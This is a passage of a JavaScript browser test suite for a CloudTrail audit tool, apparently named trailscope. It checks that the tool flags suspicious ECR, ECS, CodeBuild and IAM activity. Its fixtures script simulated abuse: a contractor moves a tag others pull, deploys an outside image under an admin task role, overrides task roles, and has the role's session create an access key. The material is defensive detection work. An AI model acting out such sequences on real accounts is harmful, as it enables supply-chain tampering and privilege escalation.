    sourceIPAddress: '203.0.113.66', eventID: `7e2e0000-0000-4000-a000-00000000000${n}`,
  });
  const pushed = call(1, 'PutImage', contractor, { ...put.requestParameters, imageTag: 'tool' },
    { image: { ...put.responseElements.image, imageId: { imageDigest: digest, imageTag: 'tool' } } });
  const pulled = call(3, 'BatchGetImage', puller, { repositoryName, registryId: account, imageIds: [{ imageDigest: digest }] }, null);
  const deleted = call(11, 'BatchDeleteImage', contractor, { repositoryName, registryId: account, imageIds: [{ imageDigest: digest }] },
    { imageIds: [{ imageDigest: digest }], failures: [] });
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-erased-')), 'erased.json');
  const { t, list } = await attentionOf(file, [...events, pushed, pulled, deleted]);
  const item = list.locator('li[data-kind=image-erased]');
  await item.first().waitFor();
  assert.equal(await item.count(), 1);
  assert.equal(await item.getAttribute('data-severity'), 'high');
  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
  assert.equal(await item.locator('[data-testid=attention-title]').innerText(), `Image deleted 10 min after its push to ${repositoryName}`);
  const text = await item.textContent();
  assert.ok(text.includes(`${digest} (tag tool), pushed by ${contractor.arn}`), text);
  assert.ok(text.includes(`pulled meanwhile by ${puller.arn} (1×)`), text);
  await item.scrollIntoViewIfNeeded();
  await t.shot('identities-image-erased', { fullPage: false });
  // The item narrows every view to the deletion.
  await item.click();
  await t.page.click('[data-testid=tab-events]');
  await t.page.waitForFunction(() => document.querySelector('[data-testid=events-total]')?.textContent === '1');
  assert.ok((await t.page.textContent('[data-testid=events] .ev-row[data-row]')).includes('BatchDeleteImage'));
  assert.deepEqual(t.problems, []);
});

test('an image a service runs, deleted two days after its push, is a high item naming the service', async () => {
  // After everything the sample logs, a contractor pushes an image to one of the sample's
  // repositories, registers a task definition that names it by tag and creates a service of it;
  // two days on, the image is deleted by digest (requests and responses as the ECR and ECS API
  // references write them). Which service runs the deleted image is worked out here from the raw
  // events: the service's task definition's tag, and the digest that tag was pushed as.
  const { events, account, contractor, at, ecs, last } = nextRevision('09', '203.0.113.74', 'b');
  const put = events.find((e) => e.eventName === 'PutImage' && !e.errorCode && e.awsRegion === last.awsRegion
    && e.recipientAccountId === account && e.responseElements?.image?.imageId?.imageDigest);
  const { repositoryName } = put.requestParameters;
  const digest = `sha256:${'e2'.repeat(32)}`;
  const ecr = (n, name, req, resp) => ({ ...ecs(n, name, req, resp), eventSource: 'ecr.amazonaws.com' });
  const uri = `${account}.dkr.ecr.${last.awsRegion}.amazonaws.com/${repositoryName}:e2e-live`;
  const td = { family: 'e2e-live', containerDefinitions: [{ name: 'app', image: uri, essential: true }] };
  const mine = [
    ecr(1, 'PutImage', { repositoryName, registryId: account, imageTag: 'e2e-live', imageManifest: '{}' },
      { image: { registryId: account, repositoryName, imageId: { imageDigest: digest, imageTag: 'e2e-live' } } }),
    ecs(2, 'RegisterTaskDefinition', td, { taskDefinition: { ...td, revision: 1,
      taskDefinitionArn: `arn:aws:ecs:${last.awsRegion}:${account}:task-definition/e2e-live:1` } }),
    ecs(3, 'CreateService', { cluster: 'e2e', serviceName: 'e2e-live', taskDefinition: 'e2e-live:1', desiredCount: 2 }, null),
    ecr(2 * 86_400 + 4, 'BatchDeleteImage', { repositoryName, registryId: account, imageIds: [{ imageDigest: digest }] },
      { imageIds: [{ imageDigest: digest }], failures: [] }),
  ];
  // The deleted digests the service's image (its tag, as last pushed before the deployment) was.
  const deleted = mine[3].requestParameters.imageIds.map((i) => i.imageDigest);
  const tag = mine[1].requestParameters.containerDefinitions[0].image.split(':').at(-1);
  const pushedAs = mine.filter((e) => e.eventName === 'PutImage' && e.requestParameters.imageTag === tag && e.eventTime < mine[2].eventTime)
    .at(-1).responseElements.image.imageId.imageDigest;
  assert.ok(deleted.includes(pushedAs) && Date.parse(mine[3].eventTime) - Date.parse(mine[0].eventTime) > 86_400_000);
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-in-use-')), 'in-use.json');
  const { t, list } = await attentionOf(file, [...events, ...mine]);
  const item = list.locator('li[data-kind=image-in-use-deleted]');
  await item.first().waitFor();
  assert.equal(await item.count(), 1);
  assert.equal(await item.getAttribute('data-severity'), 'high');
  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
  assert.equal(await item.locator('[data-testid=attention-title]').innerText(), "Service e2e-live's image deleted");
  if (await item.locator('[data-testid=attention-read]').count()) await item.locator('[data-testid=attention-read]').click();
  const why = await item.locator('[data-testid=attention-why]').innerText();
  assert.ok(why.includes(`${pushedAs} (tag e2e-live), run by service e2e-live of cluster e2e (CreateService at ${utc(at(3))} by ${contractor.arn})`), why);
  await item.scrollIntoViewIfNeeded();
  await t.shot('identities-image-in-use-deleted', { fullPage: false });
  assert.deepEqual(t.problems, []);
});

test('a CodeBuild build started with its caller\'s buildspec is an item saying what it ran, and a build with none is not', async () => {
  // A developer starts a build of the project that makes the images with a buildspec of their own
  // (StartBuild's buildspecOverride, as the CodeBuild API reference writes it); the pipeline
  // starts one with the project's. Which starts override something is worked out here from the
  // raw events.
  const { events, account, contractor, at, ecs } = nextRevision('10', '203.0.113.75', 'c');
  const build = (n, who, req) => ({ ...ecs(n, 'StartBuild', req, null), eventSource: 'codebuild.amazonaws.com', userIdentity: who });
  const pipeline = { type: 'AssumedRole', principalId: 'AROAE2EPIPE:pipe', arn: `arn:aws:sts::${account}:assumed-role/pipeline/pipe`,
    accountId: account, accessKeyId: 'ASIAE2EPIPELINE00001' };
  const spec = 'version: 0.2\nphases:\n  build:\n    commands:\n      - docker build -t web .\n      - docker push web';
  const mine = [build(1, contractor, { projectName: 'web-image', buildspecOverride: spec }),
    build(2, pipeline, { projectName: 'web-image', sourceVersion: 'main' })];
  const flagged = mine.filter((e) => Object.keys(e.requestParameters).some((k) => k.endsWith('Override')));
  assert.deepEqual(flagged, [mine[0]]);
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-build-')), 'build.json');
  const { t, list } = await attentionOf(file, [...events, ...mine]);
  const item = list.locator('li[data-kind=build-overridden]');
  await item.first().waitFor();
  assert.equal(await item.count(), flagged.length);
  assert.equal(await item.getAttribute('data-severity'), 'medium');
  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
  assert.equal(await item.locator('[data-testid=attention-title]').innerText(), 'Build of web-image started with another buildspec');
  if (await item.locator('[data-testid=attention-read]').count()) await item.locator('[data-testid=attention-read]').click();
  const why = await item.locator('[data-testid=attention-why]').innerText();
  const commands = spec.split('\n').filter((l) => l.trim().startsWith('- ')).map((l) => l.trim().slice(2)).join('; ');
  assert.ok(why.startsWith(`StartBuild of CodeBuild project web-image (${account}, ${mine[0].awsRegion}) at ${utc(at(1))} from 203.0.113.75 `
    + `with AWS CLI overrode, for that build only: the buildspec (it runs: ${commands}).`), why);
  await item.scrollIntoViewIfNeeded();
  await t.shot('identities-build-overridden', { fullPage: false });
  assert.deepEqual(t.problems, []);
});

test('a lifecycle policy set minutes before a run that expired an image in use is a high item', async () => {
  // A contractor sets the lifecycle policy of the repository of the sample's lifecycle run a
  // minute before it (the request as the ECR API reference writes it). Which images the run
  // expired, and who had pulled each in the week before (by digest, or by a tag that named it
  // then), is worked out here from the raw events.
  const events = sample();
  const run = events.filter((e) => e.eventName === 'PolicyExecutionEvent').sort((a, b) => b.eventTime.localeCompare(a.eventTime))[0];
  const repo = run.serviceEventDetails.repositoryName;
  const account = run.recipientAccountId;
  const at = (seconds) => new Date(Date.parse(run.eventTime) + seconds * 1000).toISOString().replace('.000Z', 'Z');
  const contractor = { type: 'IAMUser', principalId: 'AIDAE2ECONTRACTOR02', arn: `arn:aws:iam::${account}:user/contractor`,
    accountId: account, accessKeyId: 'AKIAE2ECONTRACTOR002', userName: 'contractor' };
  // The policy the run applied, as PutLifecyclePolicy takes it.
  const countTypes = { 'Image count more than': 'imageCountMoreThan', 'Time since image pushed': 'sinceImagePushed' };
  const text = JSON.stringify({ rules: run.serviceEventDetails.lifecycleEventPolicy.lifecycleEventRules.map((r) => ({
    rulePriority: r.rulePriority, description: r.description, action: { type: r.action },
    selection: { tagStatus: r.lifecycleEventSelection.tagStatus.toLowerCase(), countType: countTypes[r.lifecycleEventSelection.countType],
      countNumber: r.lifecycleEventSelection.countNumber, ...(r.lifecycleEventSelection.countUnit ? { countUnit: 'days' } : {}) },
  })) });
  const put = {
    eventVersion: '1.09', userIdentity: contractor, eventTime: at(-60), eventSource: 'ecr.amazonaws.com',
    eventName: 'PutLifecyclePolicy', awsRegion: run.awsRegion, sourceIPAddress: '203.0.113.67', userAgent: 'aws-cli/2.15.0',
    requestParameters: { repositoryName: repo, lifecyclePolicyText: text },
    responseElements: { registryId: account, repositoryName: repo, lifecyclePolicyText: text },
    eventID: '7e2e0000-0000-4000-a000-0000000000a1', eventType: 'AwsApiCall', recipientAccountId: account,
  };
  const runs = events.filter((e) => e.eventName === 'PolicyExecutionEvent' && e.serviceEventDetails.repositoryName === repo
    && e.eventTime >= put.eventTime && Date.parse(e.eventTime) - Date.parse(put.eventTime) < 2 * 86_400_000);
  const expired = runs.flatMap((e) => e.serviceEventDetails.lifecycleEventImageActions.map((a) => ({ ...a.lifecycleEventImage, when: e.eventTime })));
  const mine = (e) => !e.errorCode && e.eventSource === 'ecr.amazonaws.com' && e.requestParameters?.repositoryName === repo;
  const puts = events.filter((e) => mine(e) && e.eventName === 'PutImage').sort((a, b) => a.eventTime.localeCompare(b.eventTime));
  const named = (tag, when) => puts.filter((p) => p.eventTime <= when && p.responseElements.image.imageId.imageTag === tag)
    .at(-1)?.responseElements.image.imageId.imageDigest;
  const pullers = (img) => tally(events.filter((e) => mine(e) && e.eventName === 'BatchGetImage' && e.eventTime <= img.when
    && Date.parse(img.when) - Date.parse(e.eventTime) <= 7 * 86_400_000
    && e.requestParameters.imageIds.some((id) => (id.imageDigest ?? named(id.imageTag, e.eventTime)) === img.digest))
    .map((e) => e.userIdentity.arn));
  // An ECS service runs the run's first image (by digest), deployed two minutes before the policy
  // was set, then scaled up: a scaling is no deployment (ECS starts the new tasks from what the
  // deployment resolved), so the run names the service's creation.
  const deployedImg = expired[0];
  const ecs = (n, name, req, resp) => ({
    eventVersion: '1.09', userIdentity: contractor, eventTime: at(-180 + n), eventSource: 'ecs.amazonaws.com',
    eventName: name, awsRegion: run.awsRegion, sourceIPAddress: '203.0.113.67', userAgent: 'aws-cli/2.15.0',
    requestParameters: req, responseElements: resp, eventID: `7e2e0000-0000-4000-a000-0000000000c${n}`,
    eventType: 'AwsApiCall', recipientAccountId: account,
  });
  const uri = `${account}.dkr.ecr.${run.awsRegion}.amazonaws.com/${repo}@${deployedImg.digest}`;
  const deploy = [
    ecs(1, 'RegisterTaskDefinition', { family: 'e2e-web', containerDefinitions: [{ name: 'web', image: uri }] },
      { taskDefinition: { family: 'e2e-web', revision: 7, taskDefinitionArn: `arn:aws:ecs:${run.awsRegion}:${account}:task-definition/e2e-web:7` } }),
    ecs(2, 'CreateService', { cluster: 'e2e', serviceName: 'e2e-web', taskDefinition: 'e2e-web:7', desiredCount: 2 }, null),
    ecs(3, 'UpdateService', { cluster: 'e2e', service: 'e2e-web', desiredCount: 4 }, { service: { serviceName: 'e2e-web',
      taskDefinition: `arn:aws:ecs:${run.awsRegion}:${account}:task-definition/e2e-web:7`, desiredCount: 4, status: 'ACTIVE' } }),
  ];
  const inUse = expired.filter((img) => Object.keys(pullers(img)).length > 0 || img === deployedImg);
  assert.ok(inUse.some((img) => Object.keys(pullers(img)).length > 0), 'the sample\'s run expired an image pulled in the week before');
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-lifecycle-')), 'lifecycle.json');
  const { t, list } = await attentionOf(file, [...events, put, ...deploy]);
  const item = list.locator('li[data-kind=lifecycle-expired]');
  await item.first().waitFor();
  assert.equal(await item.count(), 1);
  assert.equal(await item.getAttribute('data-severity'), 'high');
  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
  assert.equal(await item.locator('[data-testid=attention-title]').innerText(),
    `New lifecycle policy of ${repo} expired ${inUse.length} image${inUse.length === 1 ? '' : 's'} in use`);
  await item.locator('[data-testid=attention-read]').click();
  const why = await item.locator('[data-testid=attention-why]').innerText();
  for (const img of inUse) {
    assert.ok(why.includes(`${img.digest} (tag ${img.tagList.join(', ')}), expired at`), why);
    const by = Object.entries(pullers(img)).sort((a, b) => b[1] - a[1] || a[0].localeCompare(b[0]))
      .map(([arn, n]) => `${arn} (${n}×)`).join(', ');
    const ran = img === deployedImg ? `, run by service e2e-web of cluster e2e (CreateService at ${utc(at(-178))} by ${contractor.arn})` : '';
    assert.ok(why.includes(by ? `pulled in the week before by ${by}${ran}` : `not pulled in the week before${ran}`), why);
  }
  await item.scrollIntoViewIfNeeded();
  await t.shot('identities-lifecycle-expired', { fullPage: false });
  // The item narrows the views to the repository from the policy to the run: its run is there.
  await item.locator('.kind').click();
  await t.page.click('[data-testid=tab-images]');
  await t.page.click('[data-testid=images-nav-lifecycle]');
  await t.page.waitForSelector('[data-testid=lifecycle-list][data-state=ready]');
  const shown = t.page.locator('[data-testid=lifecycle-run]');
  await t.page.waitForFunction((n) => document.querySelectorAll('[data-testid=lifecycle-run]').length === n, runs.length);
  assert.equal(await shown.first().getAttribute('data-images'), String(expired.length));
  // The run names the change that set its policy, and how often each image was pulled before.
  assert.equal(await shown.first().locator('[data-testid=run-policy-set]').getAttribute('data-principal'), contractor.arn);
  for (const img of expired) {
    const pulls = Object.values(pullers(img)).reduce((a, b) => a + b, 0);
    const cell = shown.first().locator(`[data-testid=expired-image][data-digest="${img.digest}"] [data-testid=expired-pulled]`);
    assert.equal(await cell.getAttribute('data-pulls'), String(pulls));
    const runBy = await cell.locator('[data-testid=expired-run-by]').allTextContents();
    assert.deepEqual(runBy, img === deployedImg ? ['run by e2e-web (cluster e2e)'] : []);
  }
  await shown.first().scrollIntoViewIfNeeded();
  await t.shot('images-lifecycle-run-by-service', { fullPage: false });
  await shown.first().scrollIntoViewIfNeeded();
  await t.shot('images-lifecycle-policy-set', { fullPage: false });
  // The image's story says under whose policy it was expired.
  await shown.first().locator('[data-testid=expired-image] [data-testid=open-image]').first().click();
  await t.page.waitForSelector('[data-testid=image-page]');
  const step = t.page.locator('[data-testid=story-step][data-kind=expired] [data-testid=run-policy-set]');
  await step.first().waitFor();
  assert.equal(await step.first().getAttribute('data-principal'), contractor.arn);
  // The ECS list says the scaling started no deployment; every other service update of the sample
  // names a task definition, so deploys (AWS's UpdateService reference: a new task definition,
  // forceNewDeployment, or new network, platform, capacity, load balancer, discovery or volume
  // settings do).
  const redeploys = ['taskDefinition', 'forceNewDeployment', 'networkConfiguration', 'platformVersion', 'capacityProviderStrategy',
    'loadBalancers', 'serviceRegistries', 'serviceConnectConfiguration', 'volumeConfigurations'];
  const scalings = [...events, ...deploy].filter((e) => e.eventName === 'UpdateService' && !e.errorCode
    && !redeploys.some((k) => e.requestParameters?.[k] !== undefined && e.requestParameters[k] !== false));
  assert.equal(scalings.length, 1);
  await t.page.click('[data-testid=clear-filters]');
  await t.page.click('[data-testid=tab-images]');
  await t.page.click('[data-testid=images-nav-ecs]');
  await t.page.waitForSelector('[data-testid=ecs-list][data-state=ready]');
  const scaled = t.page.locator('[data-testid=ecs-row][data-call=UpdateService]', { has: t.page.locator('[data-testid=ecs-no-deployment]') });
  await t.page.waitForFunction(() => document.querySelectorAll('[data-testid=ecs-no-deployment]').length > 0);
  assert.equal(await t.page.locator('[data-testid=ecs-no-deployment]').count(), scalings.length);
  assert.ok((await scaled.innerText()).includes('e2e-web'));
  await scaled.scrollIntoViewIfNeeded();
  await t.shot('images-ecs-scaled', { fullPage: false });
  assert.deepEqual(t.problems, []);
});

test('a tag moved by a new pusher whose image others then pulled is a high item', async () => {
  // A contractor, new to a repository of the sample, pushes over the tag of the sample's push
  // whose tag was then pulled the most, a second after it. Which pulls then got the contractor's
  // image (by a tag that named it then) is worked out here from the raw events.
  const events = sample();
  const ok = (e) => !e.errorCode && e.eventSource === 'ecr.amazonaws.com';
  const puts = events.filter((e) => ok(e) && e.eventName === 'PutImage' && e.requestParameters.imageTag)
    .sort((a, b) => a.eventTime.localeCompare(b.eventTime));
  const repoOf = (e) => `${e.awsRegion} ${e.requestParameters.registryId ?? e.recipientAccountId} ${e.requestParameters.repositoryName}`;
  // Pulls by tag that got the image push `p` (at `when`) gave the tag: until the tag's next push.
  const pullsOf = (p, when) => {
    const next = puts.find((q) => q.eventTime > when && repoOf(q) === repoOf(p) && q.requestParameters.imageTag === p.requestParameters.imageTag);
    return events.filter((e) => ok(e) && e.eventName === 'BatchGetImage' && repoOf(e) === repoOf(p) && e.eventTime >= when
      && (!next || e.eventTime < next.eventTime) && e.requestParameters.imageIds.some((id) => id.imageTag === p.requestParameters.imageTag));
  };
  const after = (p, seconds) => new Date(Date.parse(p.eventTime) + seconds * 1000).toISOString().replace('.000Z', 'Z');
  const target = puts.map((p) => ({ p, n: pullsOf(p, after(p, 1)).length })).sort((a, b) => b.n - a.n)[0].p;
  const repo = target.requestParameters.repositoryName;
  const tag = target.requestParameters.imageTag;
  const account = target.recipientAccountId;
  const contractor = { type: 'IAMUser', principalId: 'AIDAE2ECONTRACTOR03', arn: `arn:aws:iam::${account}:user/contractor`,
    accountId: account, accessKeyId: 'AKIAE2ECONTRACTOR003', userName: 'contractor' };
  const digest = `sha256:${'e2e'.repeat(21)}e`;
  const when = after(target, 1);
  const pushed = {
    ...target, userIdentity: contractor, eventTime: when, sourceIPAddress: '203.0.113.68', userAgent: 'docker/24.0.7 go/go1.20.10',
    responseElements: { image: { ...target.responseElements.image, imageId: { imageDigest: digest, imageTag: tag } } },
    eventID: '7e2e0000-0000-4000-a000-0000000000b1',
  };
  const pulls = pullsOf(target, when);
  assert.ok(pulls.length > 0, 'the sample pulls that tag after its push');
  const pusherOf = (e) => (e.userIdentity.type === 'AssumedRole' && e.userIdentity.sessionContext?.sessionIssuer?.arn) || e.userIdentity.arn;
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-moved-')), 'moved.json');
  const { t, list } = await attentionOf(file, [...events, pushed]);
  const item = list.locator('li[data-kind=tag-moved-new-pusher]');
  await item.first().waitFor();
  assert.equal(await item.count(), 1);
  assert.equal(await item.getAttribute('data-severity'), 'high');
  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
  assert.equal(await item.locator('[data-testid=attention-title]').innerText(), `Tag ${tag} of ${repo} moved by a new pusher`);
  if (await item.locator('[data-testid=attention-read]').count()) await item.locator('[data-testid=attention-read]').click();
  const why = await item.locator('[data-testid=attention-why]').innerText();
  const named = target.responseElements.image.imageId.imageDigest;
  assert.ok(why.includes(`${tag} at ${utc(when)} to ${digest} (it named ${named}, pushed by ${pusherOf(target)})`), why);
  assert.ok(why.includes('It pushed from 203.0.113.68 with docker.'), why);
  const by = Object.entries(tally(pulls.map((e) => e.userIdentity.arn))).sort((a, b) => b[1] - a[1] || a[0].localeCompare(b[0]))
    .slice(0, 5).map(([arn, n]) => `${arn} (${n}×)`).join(', ');
  assert.ok(why.includes(`Others then pulled the images it pushed, ${pulls.length} time${pulls.length === 1 ? '' : 's'}: ${by}`), why);
  await item.scrollIntoViewIfNeeded();
  await t.shot('identities-tag-moved-new-pusher', { fullPage: false });
  // The item narrows the views to the repository from the push on: the push is listed as one
  // that moved the tag.
  await item.locator('.kind').click();
  await t.page.click('[data-testid=tab-images]');
  await t.page.click('[data-testid=images-nav-pushes]');
  await t.page.waitForSelector(`[data-testid=push-row][data-digest="${digest}"]`);
  assert.equal(await t.page.locator(`[data-testid=push-row][data-digest="${digest}"] [data-testid=tag-moved]`).count(), 1);
  const repos = await t.page.$$eval('[data-testid=push-row]', (rows) => [...new Set(rows.map((r) => r.dataset.repo))]);
  assert.deepEqual(repos, [repo]);
  assert.deepEqual(t.problems, []);
});

/** The sample's events, and what a contractor (`AIDAE2ECONTRACTOR<key>`, from `ip`) needs to
 * register the next revision of the family the sample registered last and act on it after the
 * sample's end: `ecs(n, name, req, resp)` makes an ECS event `n` seconds on, its id ending `<idch><n>`. */
function nextRevision(key, ip, idch) {
  const events = sample();
  const ok = (e) => !e.errorCode && e.eventSource === 'ecs.amazonaws.com';
  const regs = events.filter((e) => ok(e) && e.eventName === 'RegisterTaskDefinition');
  assert.ok(regs.length > 0, 'the sample registers task definitions');
  const last = regs.at(-1);
  const family = last.responseElements.taskDefinition.family;
  const where = (e) => `${e.recipientAccountId}|${e.awsRegion}|${e.responseElements.taskDefinition.family}`;
  const revision = Math.max(...regs.filter((e) => where(e) === where(last)).map((e) => e.responseElements.taskDefinition.revision)) + 1;
  const account = last.recipientAccountId;
  const contractor = { type: 'IAMUser', principalId: `AIDAE2ECONTRACTOR${key}`, arn: `arn:aws:iam::${account}:user/contractor`,
    accountId: account, accessKeyId: `AKIAE2ECONTRACTOR0${key}`, userName: 'contractor' };
  const end = events.map((e) => e.eventTime).sort().at(-1);
  const at = (s) => new Date(Date.parse(end) + s * 1000).toISOString().replace('.000Z', 'Z');
  const ecs = (n, name, req, resp) => ({
    eventVersion: '1.09', userIdentity: contractor, eventTime: at(n), eventSource: 'ecs.amazonaws.com', eventName: name,
    awsRegion: last.awsRegion, sourceIPAddress: ip, userAgent: 'aws-cli/2.15.0', requestParameters: req,
    responseElements: resp, eventID: `7e2e0000-0000-4000-a000-0000000000${idch}${n}`, eventType: 'AwsApiCall', recipientAccountId: account,
  });
  return { events, ok, regs, last, family, where, revision, account, contractor, at, ecs };
}

test('a task definition revision with a Docker Hub image and a new task role, and a task run with that role: three high items', async () => {
  // The contractor registers the next revision of a family of the sample with an image from Docker
  // Hub (an image name with no registry host, as ECS reads it) and an administrator's task role,
  // and deploys it; the task's session of the role makes a key; then runs a task of the family's
  // previous revision with the role as an override. Which registrations run an image from a
  // source their family's earlier ones did not use, outside the account's ECR, which give a task
  // role none of them gave, and which task starts override the task definition's role, is worked
  // out here from the raw events.
  const { events, ok, last, family, where, revision, account, contractor, at, ecs } = nextRevision('04', '203.0.113.69', 'd');
  const arn = `arn:aws:ecs:${last.awsRegion}:${account}:task-definition/${family}:${revision}`;
  const role = `arn:aws:iam::${account}:role/e2e-admin`;
  const mine = [
    ecs(1, 'RegisterTaskDefinition', { family, taskRoleArn: role, containerDefinitions: [{ name: 'app', image: 'contractor/app:latest' }] },
      { taskDefinition: { family, revision, taskDefinitionArn: arn, containerDefinitions: [{ name: 'app', image: 'contractor/app:latest' }] } }),
    ecs(2, 'UpdateService', { cluster: 'e2e', service: family, taskDefinition: `${family}:${revision}` },
      { service: { serviceName: family, taskDefinition: arn, status: 'ACTIVE' } }),
    { ...ecs(3, 'CreateAccessKey', { userName: 'contractor' }, null), eventSource: 'iam.amazonaws.com', readOnly: false,
      sourceIPAddress: '198.51.100.99', userIdentity: { type: 'AssumedRole', arn: `arn:aws:sts::${account}:assumed-role/e2e-admin/7f1d`,
        accountId: account, accessKeyId: 'ASIAE2ETASKADMIN01', sessionContext: { sessionIssuer: { type: 'Role', arn: role, accountId: account, userName: 'e2e-admin' } } } },
    ecs(4, 'RunTask', { cluster: 'e2e', taskDefinition: `${family}:${revision - 1}`, overrides: { taskRoleArn: role } }, null),
  ];
  // Each registration's image sources, and which of them are new to its family and not the account's ECR.
  const sourceOf = (uri) => {
    const ecr = /^(\d{12})\.dkr\.ecr\./.exec(uri);
    if (ecr) return `ECR of account ${ecr[1]}`;
    const host = uri.includes('/') ? uri.split('/')[0] : '';
    if (!/[.:]/.test(host) && host !== 'localhost') return 'Docker Hub';
    return host === 'public.ecr.aws' ? 'ECR Public' : host;
  };
  const all = [...events, ...mine].filter((e) => ok(e) && e.eventName === 'RegisterTaskDefinition');
  // A family's first revision (1) counts when it runs an image from outside and was started.
  const startedFirst = (e) => [...events, ...mine].some((o) => ok(o) && ['CreateService', 'UpdateService', 'RunTask', 'StartTask'].includes(o.eventName)
    && `${o.recipientAccountId}|${o.awsRegion}` === `${e.recipientAccountId}|${e.awsRegion}`
    && [`${e.responseElements.taskDefinition.family}:1`, e.responseElements.taskDefinition.family].includes((o.requestParameters?.taskDefinition ?? '').split('/').pop()));
  const flagged = all.filter((e) => {
    const earlier = all.filter((o) => where(o) === where(e) && o.responseElements.taskDefinition.revision < e.responseElements.taskDefinition.revision);
    const known = new Set(earlier.flatMap((o) => o.requestParameters.containerDefinitions.map((c) => sourceOf(c.image))));
    const outside = e.requestParameters.containerDefinitions.map((c) => sourceOf(c.image)).filter((s) => s !== `ECR of account ${e.recipientAccountId}`);
    if (earlier.length === 0) return e.responseElements.taskDefinition.revision === 1 && outside.length > 0 && startedFirst(e);
    return outside.some((s) => !known.has(s));
  });
  assert.deepEqual(flagged, [mine[0]]);
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-outside-')), 'outside.json');
  const { t, list } = await attentionOf(file, [...events, ...mine]);
  const item = list.locator('li[data-kind=image-from-new-source]');
  await item.first().waitFor();
  assert.equal(await item.count(), flagged.length);
  assert.equal(await item.getAttribute('data-severity'), 'high');
  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
  assert.equal(await item.locator('[data-testid=attention-title]').innerText(), `Task definition ${family} runs an image from Docker Hub`);
  if (await item.locator('[data-testid=attention-read]').count()) await item.locator('[data-testid=attention-read]').click();
  const why = await item.locator('[data-testid=attention-why]').innerText();
  assert.ok(why.includes(`${family}:${revision} (${account}, ${last.awsRegion}), registered at ${utc(at(1))} from 203.0.113.69`), why);
  assert.ok(why.includes('runs contractor/app:latest (Docker Hub).'), why);
  assert.ok(why.includes(`Started from it: service ${family} of cluster e2e (UpdateService at ${utc(at(2))} by ${contractor.arn}).`), why);
  await item.scrollIntoViewIfNeeded();
  await t.shot('identities-image-from-new-source', { fullPage: false });
  // The role: no earlier registration of the family gave one; what its sessions did.
  const roleFlagged = all.filter((e) => {
    const earlier = all.filter((o) => where(o) === where(e) && o.responseElements.taskDefinition.revision < e.responseElements.taskDefinition.revision);
    const r = e.requestParameters.taskRoleArn;
    return earlier.length > 0 && r && !earlier.some((o) => o.requestParameters.taskRoleArn === r);
  });
  assert.deepEqual(roleFlagged, [mine[0]]);
  const previous = all.filter((o) => where(o) === where(last) && o.responseElements.taskDefinition.revision < revision)
    .sort((a, b) => a.responseElements.taskDefinition.revision - b.responseElements.taskDefinition.revision).at(-1);
  const sessions = [...events, ...mine].filter((e) => e.userIdentity?.sessionContext?.sessionIssuer?.arn === role);
  const writes = sessions.filter((e) => e.readOnly === false);
  const roleItem = list.locator('li[data-kind=task-role-new]');
  assert.equal(await roleItem.count(), roleFlagged.length);
  assert.equal(await roleItem.getAttribute('data-severity'), 'high');
  assert.equal(await roleItem.locator('[data-testid=attention-title]').innerText(), `Task definition ${family} given role e2e-admin`);
  if (await roleItem.locator('[data-testid=attention-read]').count()) await roleItem.locator('[data-testid=attention-read]').click();
  const roleWhy = await roleItem.locator('[data-testid=attention-why]').innerText();
  const gave = previous.requestParameters.taskRoleArn ?? 'no task role';
  assert.ok(roleWhy.includes(`gives its tasks role ${role}, which no earlier registration of ${family} in these logs gave: the last, `
    + `${family}:${previous.responseElements.taskDefinition.revision} at ${utc(previous.eventTime)} by ${previous.userIdentity.arn}, gave ${gave}.`), roleWhy);
  assert.ok(roleWhy.includes(`The role's sessions made ${sessions.length} call${sessions.length === 1 ? '' : 's'} in the rows looked at `
    + `(${writes.length} write${writes.length === 1 ? '' : 's'})`), roleWhy);
  assert.ok(roleWhy.includes(`first write: ${writes[0].eventSource.replace('.amazonaws.com', '')}:${writes[0].eventName} at ${utc(writes[0].eventTime)}.`), roleWhy);
  await roleItem.scrollIntoViewIfNeeded();
  await t.shot('identities-task-role-new', { fullPage: false });
  // The task started with the role in place of its task definition's.
  const defined = (e) => all.find((o) => where(o) === `${e.recipientAccountId}|${e.awsRegion}|${e.requestParameters.taskDefinition.split(':')[0]}`
    && String(o.responseElements.taskDefinition.revision) === e.requestParameters.taskDefinition.split(':')[1]);
  const overridden = [...events, ...mine].filter((e) => ok(e) && ['RunTask', 'StartTask'].includes(e.eventName)
    && e.requestParameters?.overrides?.taskRoleArn && e.requestParameters.overrides.taskRoleArn !== defined(e)?.requestParameters.taskRoleArn);
  assert.deepEqual(overridden, [mine[3]]);
  const runItem = list.locator('li[data-kind=task-role-overridden]');
  assert.equal(await runItem.count(), overridden.length);
  assert.equal(await runItem.getAttribute('data-severity'), 'high');
  assert.equal(await runItem.locator('[data-testid=attention-title]').innerText(), `Task of ${family} started with role e2e-admin`);
  if (await runItem.locator('[data-testid=attention-read]').count()) await runItem.locator('[data-testid=attention-read]').click();
  const runWhy = await runItem.locator('[data-testid=attention-why]').innerText();
  const givesNow = defined(mine[3]).requestParameters.taskRoleArn;
  assert.ok(runWhy.startsWith(`RunTask of ${family}:${revision - 1} started at ${utc(at(4))} on cluster e2e from 203.0.113.69 with AWS CLI, `
    + `with its task role overridden: ${role} (its task definition gives ${givesNow ?? 'no task role'}).`), runWhy);
  // The ECS list names the role a start gave its tasks.
  await t.page.click('[data-testid=tab-images]');
  await t.page.click('[data-testid=images-nav-ecs]');
  await t.page.waitForSelector('[data-testid=ecs-list][data-state=ready]');
  await t.page.waitForFunction(() => document.querySelectorAll('[data-testid=ecs-role-override]').length > 0);
  const overrides = [...events, ...mine].filter((e) => e.eventSource === 'ecs.amazonaws.com' && e.requestParameters?.overrides?.taskRoleArn);
  assert.deepEqual(await t.page.locator('[data-testid=ecs-role-override] b').allTextContents(), overrides.map((e) => e.requestParameters.overrides.taskRoleArn));
  await t.page.locator('[data-testid=ecs-role-override]').first().scrollIntoViewIfNeeded();
